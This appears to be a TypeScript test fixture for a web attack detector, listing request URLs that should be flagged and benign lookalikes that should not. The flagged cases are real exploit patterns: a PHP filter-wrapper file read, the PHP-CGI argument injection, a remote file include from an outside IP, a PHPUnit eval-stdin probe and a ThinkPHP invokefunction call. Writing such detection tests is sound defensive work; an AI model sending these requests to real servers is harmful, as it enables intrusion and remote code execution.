import type { AttackCases } from '../../types.ts';

export const cases: AttackCases = {
  marks: [
    {
      name: 'a filter',
      requests: [{ url: '/index.php?page=php://filter/convert.base64-encode/resource=index' }],
    },
    {
      name: 'of PHP as CGI',
      requests: [{ url: '/index.php?-d+allow_url_include=1+-d+auto_prepend_file=php://input' }],
    },
    { name: 'a file elsewhere', requests: [{ url: '/index.php?page=http://198.51.100.7/x.txt' }] },
    { name: 'of PHPUnit', requests: [{ url: '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php' }] },
    {
      name: 'of ThinkPHP',
      requests: [
        { url: '/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5' },
      ],
    },
  ],
  silent: [
    { name: 'where to go', requests: [{ url: '/index.php?return=http://shop.example.com/' }] },
    { name: 'a picture as text', requests: [{ url: '/img?src=data:image/png;base64,iVBOR' }] },
  ],
};
